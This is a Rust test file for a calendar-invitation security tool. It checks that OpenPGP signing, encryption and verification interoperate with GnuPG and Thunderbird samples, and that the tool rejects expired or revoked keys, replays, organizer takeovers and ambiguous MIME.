    let dir = tempfile::tempdir().unwrap();
    gpg.generate(
        &format!("Organizer <{ORGANIZER}>"),
        "ed25519",
        "never",
        KEY_TIME,
    );
    // RSA: GnuPG writes tag 9 only for RSA recipients in --rfc2440 mode.
    gpg.generate(
        &format!("Attendee <{ATTENDEE}>"),
        "rsa2048",
        "never",
        KEY_TIME,
    );
    let certs = gpg.export(ORGANIZER, dir.path(), "organizer");
    let key = gpg.export_secret(ATTENDEE, dir.path(), "attendee", "");
    let signed = pgp_signed(&gpg, ORGANIZER, &request_entity(), "SHA256", "pgp-sha256");
    let encrypt = |extra: &[&str]| {
        let mut args = vec![
            "--trust-model",
            "always",
            "--armor",
            "--recipient",
            ATTENDEE,
        ];
        args.extend_from_slice(extra);
        args.push("--encrypt");
        gpg.run(&args, &signed)
    };
    let flags = |message: &[u8]| {
        verify(
            message,
            &[
                "--openpgp-certs",
                certs.to_str().unwrap(),
                "--openpgp-identity",
                key.to_str().unwrap(),
            ],
        )
    };
    let unprotected = encrypt(&["--rfc2440"]);
    // GnuPG itself refuses to decrypt it ("decryption forced to fail"), but lists tag 9.
    let (_, listing, _) = gpg.output(&["--list-packets"], &unprotected);
    let listing = String::from_utf8(listing).unwrap();
    assert!(listing.contains("tag=9"), "{listing}");
    let message = with_headers(ORGANIZER, ATTENDEE, &multipart_encrypted(&unprotected));
    let (json, status) = flags(&message);
    assert_rejected(&json, status, "decryption-failed");
    assert_eq!(json["layers"].as_array().unwrap().len(), 1, "{json:#}");
    let protected = encrypt(&[]);
    let message = with_headers(ORGANIZER, ATTENDEE, &multipart_encrypted(&protected));
    let (json, status) = flags(&message);
    assert_eq!(status, 0, "{json:#}");
}

/// The boundary parameter of the first multipart Content-Type in `message`.
fn boundary(message: &[u8]) -> String {
    let text = String::from_utf8_lossy(message);
    let start = text.find("boundary=\"").unwrap() + "boundary=\"".len();
    let end = start + text[start..].find('"').unwrap();
    text[start..end].to_owned()
}

/// The two body parts of the first multipart entity of `message` (RFC 2046 §5.1.1): each
/// exactly as sent, without the CRLF that belongs to the next delimiter.
fn two_parts(message: &[u8]) -> (Vec<u8>, Vec<u8>) {
    let delimiter = format!("--{}", boundary(message));
    let text = message.to_vec();
    let find = |from: usize, needle: &[u8]| {
        text[from..]
            .windows(needle.len())
            .position(|window| window == needle)
            .map(|at| at + from)
            .unwrap()
    };
    let first_start = find(0, format!("{delimiter}\r\n").as_bytes()) + delimiter.len() + 2;
    let between = format!("\r\n{delimiter}\r\n");
    let first_end = find(first_start, between.as_bytes());
    let second_start = first_end + between.len();
    let second_end = find(second_start, format!("\r\n{delimiter}--").as_bytes());
    (
        text[first_start..first_end].to_vec(),
        text[second_start..second_end].to_vec(),
    )
}

/// The body of a MIME part (after the blank line).
fn part_body(part: &[u8]) -> Vec<u8> {
    let at = part
        .windows(4)
        .position(|window| window == b"\r\n\r\n")
        .unwrap();
    part[at + 4..].to_vec()
}

fn sign_with(key: &Path, extra: &[&str], input: &[u8]) -> common::Run {
    let mut args = vec![
        "sign".to_owned(),
        "--at".to_owned(),
        AT.to_owned(),
        "--openpgp-key".to_owned(),
        key.display().to_string(),
    ];
    args.extend(extra.iter().map(|arg| (*arg).to_owned()));
    imipsec(args, input)
}

/// `imipsec sign --openpgp-key`: GnuPG verifies the PGP/MIME signature over the first part
/// exactly as sent, and `imipsec verify` accepts the message.
#[test]
fn imipsec_signs_pgp_mime_that_gnupg_verifies() {
    let cast = Cast::new();
    let key = cast
        .gpg
        .export_secret(ORGANIZER, cast._dir.path(), "organizer", "");
    let run = sign_with(
        &key,
        &[],
        calendar("REQUEST", "pgp-sign@example.com", 0).as_bytes(),
    );
    assert_eq!(run.status, 0, "{}", run.stderr);
    let message = run.stdout;
    let text = String::from_utf8_lossy(&message);
    assert!(
        text.contains("protocol=\"application/pgp-signature\""),
        "{text}"
    );
    assert!(text.contains("micalg=pgp-sha256"), "{text}");
    let (signed, signature_part) = two_parts(&message);
    let dir = cast._dir.path();
    std::fs::write(dir.join("signed"), &signed).unwrap();
    std::fs::write(dir.join("signature.asc"), part_body(&signature_part)).unwrap();
    let (ok, _, status) = cast.gpg.output(
        &[
            "--faked-system-time",
            "20260601T010000!",
            "--status-fd",
            "2",
            "--verify",
            dir.join("signature.asc").to_str().unwrap(),
            dir.join("signed").to_str().unwrap(),
        ],
        b"",
    );
    assert!(ok && status.contains("[GNUPG:] GOODSIG"), "{status}");
    assert!(status.contains(&format!("<{ORGANIZER}>")), "{status}");
    let (json, status) = verify(&message, &["--openpgp-certs", cast.certs()]);
    assert_eq!(status, 0, "{json:#}");
    assert_eq!(json["layers"][0]["kind"], "pgp-signed");
}

/// `--encrypt-to-openpgp`: GnuPG decrypts to the signed entity, and imipsec decrypts and
/// accepts it.
#[test]
fn imipsec_encrypts_pgp_mime_that_gnupg_decrypts() {
    let cast = Cast::new();
    let dir = cast._dir.path();
    let key = cast.gpg.export_secret(ORGANIZER, dir, "organizer", "");
    let recipient = cast.gpg.export(ATTENDEE, dir, "attendee-cert");
    let run = sign_with(
        &key,
        &["--encrypt-to-openpgp", recipient.to_str().unwrap()],
        calendar("REQUEST", "pgp-encrypt@example.com", 0).as_bytes(),
    );
    assert_eq!(run.status, 0, "{}", run.stderr);
    let message = run.stdout;
    let text = String::from_utf8_lossy(&message);
    assert!(
        text.contains("protocol=\"application/pgp-encrypted\""),
        "{text}"
    );
    let (control, data) = two_parts(&message);
    assert!(String::from_utf8_lossy(&control).contains("Version: 1"));
    let (ok, plaintext, diagnostics) = cast.gpg.output(
        &["--faked-system-time", "20260601T010000!", "--decrypt"],
        &part_body(&data),
    );
    assert!(ok, "{diagnostics}");
    let plaintext = String::from_utf8(plaintext).unwrap();
    assert!(
        plaintext.contains("protocol=\"application/pgp-signature\""),
        "{plaintext}"
    );
    let (json, status) = decrypting(&cast, &attendee_key(&cast), &message);
    assert_eq!(status, 0, "{json:#}");
    assert_eq!(json["layers"][0]["kind"], "pgp-encrypted");
    assert_eq!(json["layers"][1]["kind"], "pgp-signed");
}

/// The same refusals as S/MIME signing: a key a gate would reject, or a signer who is not
/// the one acting.
#[test]
fn imipsec_refuses_to_sign_what_a_gate_would_reject() {
    let cast = Cast::new();
    let dir = cast._dir.path();
    // The attendee may not send the organizer's REQUEST (role-not-authorized, as S/MIME).
    let attendee = cast.gpg.export_secret(ATTENDEE, dir, "attendee-secret", "");
    let run = sign_with(
        &attendee,
        &[],
        calendar("REQUEST", "pgp-refuse@example.com", 0).as_bytes(),
    );
    assert_eq!(run.status, 1, "{}", run.stderr);
    assert!(run.stderr.contains("role-not-authorized"), "{}", run.stderr);
    assert!(run.stdout.is_empty());
    // An expired key signs nothing.
    let gpg = Gpg::new();
    gpg.generate(
        &format!("Organizer <{ORGANIZER}>"),
        "ed25519",
        "1y",
        "20250101T000000!",
    );
    let expired = gpg.export_secret(ORGANIZER, dir, "expired", "");
    let run = sign_with(
        &expired,
        &[],
        calendar("REQUEST", "pgp-refuse@example.com", 0).as_bytes(),
    );
    assert_eq!(run.status, 1, "{}", run.stderr);
    assert!(run.stderr.contains("certificate-expired"), "{}", run.stderr);
    assert!(run.stdout.is_empty());
}

/// The audit handles PGP/MIME like S/MIME: a PGP-signed invitation is accepted, one
/// encrypted to a key the audit does not hold is `not-decrypted` (not `unsigned`), and with
/// the key it is accepted too.
#[test]
fn the_audit_classifies_pgp_mime_like_smime() {
    let cast = Cast::new();
    let dir = cast._dir.path();
    let folder = dir.join("mail");
    std::fs::create_dir(&folder).unwrap();
    let signed = pgp_signed(
        &cast.gpg,
        ORGANIZER,
        &request_entity(),
        "SHA256",
        "pgp-sha256",
    );
    let mut plain = b"Message-ID: <signed@x>\r\n".to_vec();
    plain.extend(with_headers(ORGANIZER, ATTENDEE, &signed));
    std::fs::write(folder.join("1.eml"), plain).unwrap();
    let encrypted = cast.gpg.encrypt(ATTENDEE, None, &signed);
    let mut hidden = b"Message-ID: <encrypted@x>\r\n".to_vec();
    hidden.extend(with_headers(
        ORGANIZER,
        ATTENDEE,
        &multipart_encrypted(&encrypted),
    ));
    std::fs::write(folder.join("2.eml"), hidden).unwrap();
    let jsonl = dir.join("audit.jsonl");
    let audit = |extra: &[&str]| {
        let mut args = vec![
            "audit",
            folder.to_str().unwrap(),
            "--at",
            AT,
            "--openpgp-certs",
            cast.certs(),
            "--jsonl",
            jsonl.to_str().unwrap(),
        ];
        args.extend_from_slice(extra);
        let run = imipsec(args, b"");
        assert_eq!(run.status, 0, "{}", run.stderr);
        let mut verdicts: Vec<String> = std::fs::read_to_string(&jsonl)
            .unwrap()
            .lines()
            .map(|line| {
                let row: serde_json::Value = serde_json::from_str(line).unwrap();
                row["verdict"].as_str().unwrap().to_owned()
            })
            .collect();
        verdicts.sort();
        verdicts
    };
    assert_eq!(audit(&[]), ["accept", "not-decrypted"]);
    let key = attendee_key(&cast);
    assert_eq!(
        audit(&["--openpgp-identity", key.to_str().unwrap()]),
        ["accept", "accept"]
    );
}

/// One real message's expected result: (file, first reason, layers as (kind, status), signer
/// of the signature layer).
type Expected = (
    &'static str,
    &'static str,
    &'static [(&'static str, &'static str)],
    Option<&'static str>,
);

/// Real PGP/MIME from Thunderbird (testdata/openpgp/README.md): verified, decrypted and
/// rejected as the client's own tests expect; none is an invitation, so a verified one is
/// `no-calendar`.
#[test]
fn thunderbird_pgp_mime_messages_get_their_verdicts() {
    let dir = common::repo().join("testdata/openpgp/thunderbird");
    let file = |name: &str| dir.join(name).display().to_string();
    let keys = [
        "alice@openpgp.example-0xf231550c4f47e38e-pub.asc",
        "bob@openpgp.example-0xfbfcc82a015e7330-pub.asc",
        "carol@example.com-0x3099ff1238852b9f-pub.asc",
    ];
    let mut flags: Vec<String> = Vec::new();
    for key in keys {
        flags.extend(["--openpgp-certs".to_owned(), file(key)]);
    }
    flags.extend([
        "--openpgp-identity".to_owned(),
        file("alice@openpgp.example-0xf231550c4f47e38e-secret.asc"),
    ]);
    let flags: Vec<&str> = flags.iter().map(String::as_str).collect();
    let cases: [Expected; 6] = [
        (
            "signed-by-0xfbfcc82a015e7330-to-0xf231550c4f47e38e-unencrypted.eml",
            "no-calendar",
            &[("pgp-signed", "verified")],
            Some("bob@openpgp.example"),
        ),
        (
            "signed-by-0x3099ff1238852b9f-to-0xf231550c4f47e38e-unencrypted.eml",
            "no-calendar",
            &[("pgp-signed", "verified")],
            Some("carol@example.com"),
        ),
        (
            "signed-by-0xfbfcc82a015e7330-encrypted-to-0xf231550c4f47e38e.eml",
            "no-calendar",
            &[("pgp-encrypted", "decrypted"), ("pgp-signed", "verified")],
            Some("bob@openpgp.example"),
        ),
        (
            "unsigned-encrypted-to-0xf231550c4f47e38e-from-0xfbfcc82a015e7330.eml",
            "unsigned",
            &[("pgp-encrypted", "decrypted")],
            None,
        ),
        (
            "bob-to-alice-signed-damaged-signature.eml",
            "bad-signature",
            &[("pgp-signed", "signature-failed")],
            None,
        ),
        (
            "signed-with-mailman-footer.eml",
            "bad-signature",
            &[("pgp-signed", "signature-failed")],
            None,
        ),
    ];
    for (name, reason, layers, signer) in cases {
        let message = std::fs::read(dir.join(name)).unwrap();
        let (json, status) = verify(&message, &flags);
        assert_eq!(status, 1, "{name}: {json:#}");
        assert_eq!(reasons(&json)[0], reason, "{name}: {json:#}");
        let found: Vec<(String, String)> = json["layers"]
            .as_array()
            .unwrap()
            .iter()
            .map(|layer| {
                (
                    layer["kind"].as_str().unwrap().to_owned(),
                    layer["status"].as_str().unwrap().to_owned(),
                )
            })
            .collect();
        let expected: Vec<(String, String)> = layers
            .iter()
            .map(|(kind, status)| ((*kind).to_owned(), (*status).to_owned()))
            .collect();
        assert_eq!(found, expected, "{name}");
        if let Some(signer) = signer {
            let signed = json["layers"]
                .as_array()
                .unwrap()
                .iter()
                .find(|layer| layer["kind"] == "pgp-signed")
                .unwrap();
            assert_eq!(signed["signers"][0]["emails"][0], signer, "{name}");
        }
    }
    // Without Bob's certificate his genuine signature proves nothing.
    let message = std::fs::read(
        dir.join("signed-by-0xfbfcc82a015e7330-to-0xf231550c4f47e38e-unencrypted.eml"),
    )
    .unwrap();
    let (json, status) = verify(
        &message,
        &[
            "--openpgp-certs",
            &file("carol@example.com-0x3099ff1238852b9f-pub.asc"),
        ],
    );
    assert_rejected(&json, status, "untrusted-certificate");
}

/// Every start of `needle` in `haystack`.
fn positions(haystack: &[u8], needle: &[u8]) -> Vec<usize> {
    haystack
        .windows(needle.len())
        .enumerate()
        .filter(|(_, window)| *window == needle)
        .map(|(at, _)| at)
        .collect()
}

/// A real PGP/MIME-signed invitation (issue #18): KMail 4.14.3 sending a KOrganizer 4.14.3
/// REQUEST, kept as akonadi-mime stores it (testdata/clients/README.md). The signed part is a
/// multipart/mixed labelled `Content-Transfer-Encoding: quoted-printable`, which RFC 2045
/// §6.4 forbids on a multipart, and this one reads two ways: its body holds the multipart
/// twice, first with only the delimiters escaped (`=2D-nextPart…`), then raw. A parser that
/// decodes the label reads the first copy, where the ATTENDEE's `X-UID=116335000` decodes to
/// the control byte 0x11 and `6335000`; a parser that ignores the label sees the first copy
/// as preamble and reads the raw one. imipsec refuses the part at its header, before any
/// signature is checked (the attack: a signer's bytes read one way by the verifier and
/// another by the calendar). The signer's certificate (Martin Koller, DSA key
/// 0x1E674FA08DFB0F86, a v3 SHA-1 signature) is not in the source; vouching for another
/// certificate changes nothing, the MIME decides first.
#[test]
fn kmail_pgp_signed_invitation_is_refused_for_its_multipart_read_two_ways() {
    let mbox = std::fs::read(
        common::repo().join("testdata/clients/kmail-4.14-korganizer-request-pgp-signed.mbox"),
    )
    .unwrap();
    let certs = common::repo()
        .join("testdata/openpgp/thunderbird/bob@openpgp.example-0xfbfcc82a015e7330-pub.asc")
        .display()
        .to_string();
    let flags = ["--openpgp-certs", certs.as_str()];
    // As stored: the mbox's `From ` separator line is no header field.
    let (json, status) = verify(&mbox, &flags);
    assert_rejected(&json, status, "malformed-mime");
    assert!(
        json["reasons"][0]["detail"]
            .as_str()
            .unwrap()
            .contains("byte 0"),
        "{json:#}"
    );
    // The message, as `imipsec audit` reads it from the mbox (RFC 4155).
    assert!(mbox.starts_with(b"From kollix@aon.at "));
    let message = &mbox[positions(&mbox, b"\n")[0] + 1..];
    // The two readings: the ATTENDEE line is there twice, once in the copy before the first
    // raw delimiter (preamble to one parser, content to the other) and once after it.
    let attendee = positions(message, b"X-UID=116335000:mailto:test@localhost");
    let raw_delimiter = positions(message, b"\n--nextPart3532720.K8MVRkdBcf\n");
    assert_eq!(attendee.len(), 2);
    assert!(attendee[0] < raw_delimiter[0] && raw_delimiter[0] < attendee[1]);
    let (json, status) = verify(message, &flags);
    assert_rejected(&json, status, "malformed-mime");
    let detail = json["reasons"][0]["detail"].as_str().unwrap();
    assert!(
        detail.contains("byte 435")
            && detail.contains(
                "Content-Transfer-Encoding other than 7bit, 8bit or binary on a multipart"
            ),
        "{json:#}"
    );
    assert_eq!(json["layers"], serde_json::json!([]), "{json:#}");
    assert_eq!(json["itip"], serde_json::json!([]), "{json:#}");
}

/// `[openpgp] certs` and `[[openpgp.identities]]` in the configuration do what the flags do
/// (paths relative to the configuration file).
#[test]
fn the_configuration_file_names_openpgp_certificates_and_keys() {
    let cast = Cast::new();
    let dir = cast._dir.path();
    attendee_key(&cast);
    let config = dir.join("imipsec.toml");
    std::fs::write(
        &config,
        "[openpgp]\ncerts = [\"certs\"]\n\n[[openpgp.identities]]\npath = \"attendee.key\"\n",
    )
    .unwrap();
    let encrypted = cast
        .gpg
        .encrypt(ATTENDEE, Some(ORGANIZER), &request_entity());
    let message = with_headers(ORGANIZER, ATTENDEE, &multipart_encrypted(&encrypted));
    let (json, status) = verify(&message, &["--config", config.to_str().unwrap()]);
    assert_eq!(status, 0, "{json:#}");
    assert_eq!(json["layers"][1]["signers"][0]["emails"][0], ORGANIZER);
}

/// A key whose primary key only certifies and whose signing key is a subkey (bound with its
/// back-signature, as GnuPG makes it); the subkey's own expiry (from its binding) counts.
fn subkey_signer(gpg: &Gpg, subkey_time: &str, subkey_expire: &str) -> String {
    let user_id = format!("Organizer <{ORGANIZER}>");
    gpg.run(
        &[
            "--faked-system-time",
            "20250101T000000!",
            "--passphrase",
            "",
            "--quick-gen-key",
            &user_id,
            "ed25519",
            "cert",
            "never",
        ],
        b"",
    );
    let fingerprint = gpg.fingerprint(ORGANIZER);
    gpg.run(
        &[
            "--faked-system-time",
            subkey_time,
            "--passphrase",
            "",
            "--quick-add-key",
            &fingerprint,
            "ed25519",
            "sign",
            subkey_expire,
        ],
        b"",
    );
    fingerprint
}

#[test]
fn a_signature_by_a_bound_signing_subkey_is_accepted() {
    let gpg = Gpg::new();
    let dir = tempfile::tempdir().unwrap();
    subkey_signer(&gpg, "20250101T000000!", "never");
    let certs = gpg.export(ORGANIZER, dir.path(), "organizer");
    let body = pgp_signed(&gpg, ORGANIZER, &request_entity(), "SHA256", "pgp-sha256");
    let message = with_headers(ORGANIZER, ATTENDEE, &body);
    let (json, status) = verify(&message, &["--openpgp-certs", certs.to_str().unwrap()]);
    assert_eq!(status, 0, "{json:#}");
}

/// The signing subkey expired (one year from 2025-01-01) while the primary key is valid.
#[test]
fn a_signature_by_an_expired_signing_subkey_is_rejected() {
    let gpg = Gpg::new();
    let dir = tempfile::tempdir().unwrap();
    subkey_signer(&gpg, "20250101T000000!", "1y");
    let certs = gpg.export(ORGANIZER, dir.path(), "organizer");
    let signature = gpg.detach_sign(ORGANIZER, &request_entity(), "SHA256", "20250601T000000!");
    let body = multipart_signed(&request_entity(), &signature, "pgp-sha256");
    let message = with_headers(ORGANIZER, ATTENDEE, &body);
    let (json, status) = verify(&message, &["--openpgp-certs", certs.to_str().unwrap()]);
    assert_rejected(&json, status, "certificate-expired");
}

/// A revoked signing subkey (GnuPG `revkey`) signs nothing, even with the primary key valid.
#[test]
fn a_signature_by_a_revoked_signing_subkey_is_rejected() {
    let gpg = Gpg::new();
    let dir = tempfile::tempdir().unwrap();
    let fingerprint = subkey_signer(&gpg, "20250101T000000!", "never");
    let body = pgp_signed(&gpg, ORGANIZER, &request_entity(), "SHA256", "pgp-sha256");
    gpg.run(
        &[
            "--faked-system-time",
            "20260301T000000!",
            "--passphrase",
            "",
            "--command-fd",
            "0",
            "--edit-key",
            &fingerprint,
        ],
        b"key 1\nrevkey\ny\n0\n\ny\nsave\n",
    );
    let certs = gpg.export(ORGANIZER, dir.path(), "organizer");
    let message = with_headers(ORGANIZER, ATTENDEE, &body);
    let (json, status) = verify(&message, &["--openpgp-certs", certs.to_str().unwrap()]);
    assert_rejected(&json, status, "certificate-revoked");
}

// The event-state rules read the signer an OpenPGP layer proved exactly as an S/MIME one:
// the organizer pinned to the UID by a recorded REQUEST, a replay of it `stale-sequence`,
// and another trusted OpenPGP signer claiming the UID as its ORGANIZER `organizer-mismatch`.
#[test]
fn event_state_pins_the_organizer_and_refuses_replays_for_openpgp_signers() {
    let cast = Cast::new();
    let dir = tempfile::tempdir().unwrap();
    let store = dir.path().join("state.db");
    let store = store.to_str().unwrap();
    let init = imipsec(["store", "init", "--store", store], b"");
    assert_eq!(init.status, 0, "{}", init.stderr);
    let state = [
        "--openpgp-certs",
        cast.certs(),
        "--store",
        store,
        "--recipient",
        ATTENDEE,
    ];
    let request = with_headers(
        ORGANIZER,
        ATTENDEE,
        &pgp_signed(
            &cast.gpg,
            ORGANIZER,
            &request_entity(),
            "SHA256",
            "pgp-sha256",
        ),
    );
    let mut record = state.to_vec();
    record.push("--record");
    let (json, status) = verify(&request, &record);
    assert_eq!(status, 0, "{json:#}");
    assert_eq!(json["event_state"], "checked", "{json:#}");

    let (json, status) = verify(&request, &state);
    assert_rejected(&json, status, "stale-sequence");

    // The attendee's trusted key, naming itself ORGANIZER of the organizer's UID.
    let takeover = calendar("REQUEST", "pgp-1@example.com", 1).replace(
        &format!("ORGANIZER;CN=Organizer:mailto:{ORGANIZER}"),
        &format!("ORGANIZER;CN=Attendee:mailto:{ATTENDEE}"),
    );
    let takeover = with_headers(
        ATTENDEE,
        ORGANIZER,
        &pgp_signed(
            &cast.gpg,
            ATTENDEE,
            &calendar_entity(&takeover, "REQUEST"),
            "SHA256",
            "pgp-sha256",
        ),
    );
    let (json, status) = verify(&takeover, &state);
    assert_rejected(&json, status, "organizer-mismatch");
}
